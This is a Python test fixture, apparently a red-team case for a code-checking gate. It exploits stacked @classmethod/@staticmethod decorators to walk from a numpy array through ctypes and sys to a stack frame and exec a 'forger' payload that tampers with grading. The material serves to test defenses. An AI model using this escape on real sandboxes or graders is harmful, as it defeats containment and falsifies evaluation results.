# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt15 (hostile, escape): `@classmethod` stacked over `@staticmethod`. Both are trusted decorators, and
# classes.py takes any def with `classmethod` among its decorators as a classmethod: its first parameter is the
# class itself (`cls_params`). But on Python 3.9-3.12 `classmethod(staticmethod(f)).__get__` returns the
# staticmethod's own `__get__`, the plain function: `_K.step(x)` runs `step` with `cls = x`, any object, while
# the gate reads `cls.<a name the family assigns>` as the class's own attribute. So an array walks numpy ->
# ctypes -> sys -> a frame, and the forger of test_gate_grading.py runs with the runner's frame.
import numpy as np


class _K:
    def __init__(self):
        self.ctypes = None
        self._ctypes = None
        self._sys = None
        self._getframe = None
        self.modules = None
        self.exec = None

    @classmethod  # hole
    @staticmethod  # hole
    def ctypes_of(cls):
        return cls.ctypes

    @classmethod  # hole
    @staticmethod  # hole
    def module_of(cls):
        return cls._ctypes

    @classmethod  # hole
    @staticmethod  # hole
    def sys_of(cls):
        return cls._sys

    @classmethod  # hole
    @staticmethod  # hole
    def frame_of(cls):
        return cls._getframe

    @classmethod  # hole
    @staticmethod  # hole
    def modules_of(cls):
        return cls.modules

    @classmethod  # hole
    @staticmethod  # hole
    def exec_of(cls):
        return cls.exec


_sys = _K.sys_of(_K.module_of(_K.ctypes_of(np.zeros(1))))
_K.exec_of(_K.modules_of(_sys)["builtins"])(_FORGE, {"_frame": _K.frame_of(_sys)()})
